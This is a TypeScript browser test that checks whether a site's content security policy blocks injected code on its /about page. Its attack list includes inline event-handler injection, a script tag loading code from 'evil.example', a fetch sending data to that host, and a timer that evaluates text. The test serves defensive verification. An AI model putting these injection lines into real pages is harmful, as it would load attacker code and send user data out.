import { setUpPages, withReducedMotion } from "../support/setUpPages";

// `setUpPages` fails every test in which a policy blocks anything else.
const { open, violations } = setUpPages();

const attacks: (string | (() => void))[] = [
  () => {
    const frame = document.createElement("div");
    frame.setAttribute("onclick", "document.title = 'taken'");
    document.body.append(frame);
    frame.click();
  },
  () => {
    const script = document.createElement("script");
    script.src = "https://evil.example/a.js";
    document.body.append(script);
  },
  () => void fetch("https://evil.example/?words"),
  // The test's own code may evaluate text; a timer it leaves behind may not.
  "void setTimeout(() => new Function(`document.title = 'taken'`)())",
];

test("the policy refuses scripts and words to other hosts", async () => {
  const page = await open("/about", withReducedMotion);
  for (const attack of attacks) {
    const refusal = page.waitForEvent("console", () => violations.length > 0);
    await page.evaluate(attack).catch(() => undefined);
    await refusal;
    expect(await page.title()).not.toBe("taken");
    expect(violations.splice(0)).not.toEqual([]);
  }
});
